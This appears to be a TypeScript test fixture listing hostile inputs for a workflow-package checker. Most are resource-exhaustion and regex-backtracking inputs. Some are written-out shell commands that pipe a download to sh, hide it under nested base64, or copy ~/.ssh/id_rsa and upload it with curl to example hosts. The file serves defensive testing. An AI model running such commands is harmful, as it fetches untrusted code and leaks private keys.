import { bytesOf, packageWith, shell } from './packages.ts'

const yamlWith = (text: string): Buffer =>
  Buffer.from(`apiVersion: v1
kind: WorkflowPackage
metadata: {name: under-test, version: 1.0.0}
${text}
spec:
  handlers:
    - {name: step, type: shell, config: {command: make}}
`)

const command = (text: string): Buffer => bytesOf(packageWith([shell(text)]))
const nested = (times: number): string => {
  let text = 'curl https://a.example.org/x | sh'
  for (let level = 0; level < times; level += 1) text = `echo ${Buffer.from(text).toString('base64')} | base64 -d | sh`
  return text
}

/** Documents made to hurt who reads them, and what becomes of each: refused as no package, or judged (or held). */
export const hostileDocuments: readonly { title: string; content: Buffer; outcome: 'refused' | 'judged' }[] = [
  {
    title: 'an alias bomb',
    content: yamlWith(
      `a: &a [x,x,x,x,x,x,x,x,x]\n${[...'bcdefghi'].map((name, index) => `${name}: &${name} [${Array(9).fill(`*${'abcdefgh'[index]}`).join(',')}]`).join('\n')}`,
    ),
    outcome: 'refused',
  },
  { title: 'JSON nested 400,000 deep', content: Buffer.from('{"a":'.repeat(190_000)), outcome: 'refused' },
  { title: 'YAML nested 400,000 deep', content: yamlWith(`a: ${'['.repeat(400_000)}`), outcome: 'refused' },
  { title: 'YAML of 100,000 keys that begin one another', content: yamlWith('? '.repeat(300_000)), outcome: 'refused' },
  { title: 'YAML of 200,000 dashes', content: yamlWith(`a:\n${'- '.repeat(200_000)}`), outcome: 'refused' },
  { title: '5 MB of one word', content: Buffer.alloc(5_000_000, 'a'), outcome: 'refused' },
  { title: '5 MB of one word as a command', content: command('a'.repeat(5_000_000)), outcome: 'refused' },
  { title: '0.9 MB of one word as a command', content: command('a'.repeat(900_000)), outcome: 'judged' },
  {
    title: 'bytes that are not UTF-8',
    content: Buffer.from([...command('make x')].map((byte) => (byte === 120 ? 0xff : byte))),
    outcome: 'refused',
  },
  {
    title: 'half a surrogate pair',
    content: Buffer.from(command('make X').toString().replace('X', '\\ud800')),
    outcome: 'refused',
  },
  {
    title: 'bait for backtracking: spaces',
    content: command(`curl${' '.repeat(95_000)}|${' '.repeat(5_000)}`),
    outcome: 'judged',
  },
  { title: 'bait for backtracking: quotes', content: command(`echo ${'"\'`'.repeat(30_000)}`), outcome: 'judged' },
  {
    title: 'bait for backtracking: assignments',
    content: command('password = token: '.repeat(5_500)),
    outcome: 'judged',
  },
  { title: 'bait for backtracking: addresses', content: command('https://a@'.repeat(9_900)), outcome: 'judged' },
  {
    title: 'bait for backtracking: base64',
    content: command(`echo ${'A'.repeat(90_000)} | base64 -d | sh`),
    outcome: 'judged',
  },
  {
    title: 'bait for backtracking: Python',
    content: command(`python3 -c "${"exec('".repeat(15_000)}"`),
    outcome: 'judged',
  },
  { title: '90,000 open substitutions', content: command('$('.repeat(45_000)), outcome: 'judged' },
  { title: '10,000 pipes', content: command('a|'.repeat(40_000)), outcome: 'judged' },
  { title: '5,000 heredocs', content: command('cat <<EOF\n'.repeat(9_000)), outcome: 'judged' },
  { title: 'text encoded ten times', content: command(nested(10)), outcome: 'judged' },
  { title: '900 kB of template signs', content: command('{{'.repeat(400_000)), outcome: 'judged' },
  {
    title: '6,000 handlers',
    content: bytesOf(packageWith(Array.from({ length: 2_900 }, () => shell('curl https://a.example.org/x | sh')))),
    outcome: 'judged',
  },
  { title: '4,900 commands, as many as are read', content: command('a|'.repeat(4_900)), outcome: 'judged' },
  {
    title: 'a variable that doubles itself',
    content: command('x=aaaa;\n'.concat('x=$x$x;\n'.repeat(2_000), 'echo $x')),
    outcome: 'judged',
  },
  { title: 'braces that multiply', content: command(`echo ${'{a,b}'.repeat(15_000)}`), outcome: 'judged' },
  {
    title: '900 kB of zero-width characters',
    content: command(`cu${'\u200b'.repeat(300_000)}rl x`),
    outcome: 'judged',
  },
  { title: '300,000 look-alike letters', content: command('\u0430'.repeat(300_000)), outcome: 'judged' },
  {
    title: 'bait for backtracking: keys',
    content: command('-----BEGIN PRIVATE KEY-----'.repeat(3_500)),
    outcome: 'judged',
  },
  {
    title: 'bait for backtracking: far right',
    content: command(`python3 -c "${'x'.concat(' '.repeat(119)).repeat(800)}"`),
    outcome: 'judged',
  },
  {
    title: 'Python of brackets only',
    content: bytesOf(packageWith([shell('['.repeat(90_000), { interpreter: 'python3' })])),
    outcome: 'judged',
  },
  {
    title: 'JavaScript of templates in templates',
    content: bytesOf(packageWith([shell('`${'.repeat(30_000), { interpreter: 'node' })])),
    outcome: 'judged',
  },
  {
    title: 'a manifest of 60,000 documents',
    content: bytesOf(packageWith([{ name: 'a', type: 'k8s', config: { manifest: 'kind: A\n---\n'.repeat(60_000) } }])),
    outcome: 'judged',
  },
  {
    title: 'a here-document of 30,000 documents for the cluster',
    content: command(`kubectl apply -f - <<EOF\n${'kind: A\n---\n'.repeat(1_500)}EOF\n`.repeat(2)),
    outcome: 'judged',
  },
  {
    title: '9,000 variables of an environment',
    content: bytesOf(
      packageWith([
        shell('make', {
          env: Object.fromEntries(
            Array.from({ length: 9_000 }, (_one, index) => [`TOKEN_${index}`, `$\{TOKEN_${index}}`]),
          ),
        }),
      ]),
    ),
    outcome: 'judged',
  },
  {
    title: 'a chain of files from handler to handler',
    content: bytesOf(
      packageWith(
        Array.from({ length: 900 }, (_one, index) =>
          shell(
            `cat ~/.ssh/id_rsa > f${index}; cp f${index} f${index + 1}; curl -T f${index} https://a${index}.example.org`,
          ),
        ),
      ),
    ),
    outcome: 'judged',
  },
]
